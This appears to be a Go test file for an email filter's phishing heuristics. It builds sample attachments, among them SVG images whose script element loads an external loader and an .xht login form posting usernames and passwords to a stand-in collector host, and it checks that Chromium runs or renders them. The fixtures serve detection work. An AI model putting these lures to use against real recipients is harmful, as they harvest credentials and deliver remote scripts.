package heuristic

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/kensa-milter/kensa/internal/chromium"
)

// svgLoader is an SVG image with nothing of its own that draws itself from
// a script its <script> element names by attr (href or xlink:href).
func svgLoader(attr, src string) string {
	return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><script ` + attr + `="` + src + `"/></svg>`
}

func svgLoaderCases() map[string][]sample {
	svg := func(body string) string {
		return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="200">` + body + `</svg>`
	}
	return map[string][]sample{"svg-link": {
		{"picture as a button", attach(text("2", svg(`<a xlink:href="https://docs-view.example.net/?id=7"><rect width="400" height="200" fill="#0078d4"/><text x="20" y="100">View document</text></a>`), named("Document.svg"))), "2"},
		{"href, declared type", attach(text("2", svg(`<a href="https://docs-view.example.net/"><text y="20">Open</text></a>`), named("Document"), declared("image/svg+xml"))), "2"},
		{"in a zip", zipWith(text("2/a.zip/doc.svg", svg(`<a href="https://docs-view.example.net/"><text y="20">Open</text></a>`), named("doc.svg"))), "2/a.zip/doc.svg"},
		{"logo linking to the sender's site", attach(text("2", svg(`<a xlink:href="https://www.example.com/"><text y="20">Example</text></a>`), named("logo.svg"))), ""},
		{"chart with a picture and namespaces", attach(text("2", svg(`<image xlink:href="https://cdn.example.net/bg.png" width="10" height="10"/><rect width="40" height="80"/>`), named("chart.svg"))), ""},
		{"HTML page with an inline SVG", attach(htmlPart("2", `<html><body><svg><a href="https://docs-view.example.net/"><text>x</text></a></svg></body></html>`, named("page.html"))), ""},
	},
		"html-redirect-attachment": {
			{"SVG script href", attach(text("2", svgLoader("href", "https://cdn.example.net/loader.js"), named("Invoice.svg"))), "2"},
			{"SVG script xlink:href", attach(text("2", svgLoader("xlink:href", "https://cdn.example.net/loader.js"), named("Invoice.svg"))), "2"},
			{"SVG logo with a link", attach(text("2", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://www.example.com/"><text y="20">Example</text></a></svg>`, named("logo.svg"))), ""},
		}}
}

// TestSVGScriptHrefInChromium: Chromium runs the script an SVG's <script>
// names by href or xlink:href, which is why html-redirect-attachment reads
// that address as the page's script source.
func TestSVGScriptHrefInChromium(t *testing.T) {
	browser := chromium.Start(t, 5*time.Minute)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "loader.js"), []byte("window.__loaded = 'yes';"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, attr := range []string{"href", "xlink:href"} {
		path := filepath.Join(dir, "image.svg")
		if err := os.WriteFile(path, []byte(svgLoader(attr, "loader.js")), 0o644); err != nil {
			t.Fatal(err)
		}
		tab, cancel := chromedp.NewContext(browser)
		var got string
		err := chromedp.Run(tab, chromedp.Navigate("file://"+path), chromedp.Sleep(300*time.Millisecond), chromedp.Evaluate(`String(window.__loaded)`, &got))
		cancel()
		if err != nil {
			t.Fatal(err)
		}
		if got != "yes" {
			t.Errorf("Chromium did not run the script an SVG names by %s (window.__loaded = %s)", attr, got)
		}
	}
}

// xhtLogin is a login page as an .xht file, which Chromium opens as XHTML
// (the page must be well-formed XML for it to show); its root is the
// form, so nothing but the name says it is a page.
const xhtLogin = `<form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.example.net/p" method="post">` +
	`<input name="u"/><input type="password" name="p"/><button>Sign in</button></form>`

func xhtCases() map[string][]sample {
	return map[string][]sample{"html-credential-form": {
		{"login page named .xht", attach(text("2", xhtLogin, named("Mailbox.xht"))), "2"},
	}}
}

// TestXHTInChromium: Chromium shows an .xht file's form, so the .xht
// name is read as a page.
func TestXHTInChromium(t *testing.T) {
	browser := chromium.Start(t, 5*time.Minute, chromedp.Flag("host-resolver-rules", "MAP * ~NOTFOUND"))
	path := filepath.Join(t.TempDir(), "Mailbox.xht")
	if err := os.WriteFile(path, []byte(xhtLogin), 0o644); err != nil {
		t.Fatal(err)
	}
	tab, cancel := chromedp.NewContext(browser)
	defer cancel()
	var action string
	if err := chromedp.Run(tab, chromedp.Navigate("file://"+path),
		chromedp.Evaluate(`(document.querySelector("input[type=password]") && document.forms[0].action) || ""`, &action)); err != nil {
		t.Fatal(err)
	}
	if action != "https://collect.example.net/p" {
		t.Errorf("Chromium does not show the .xht page's form (action %q)", action)
	}
}
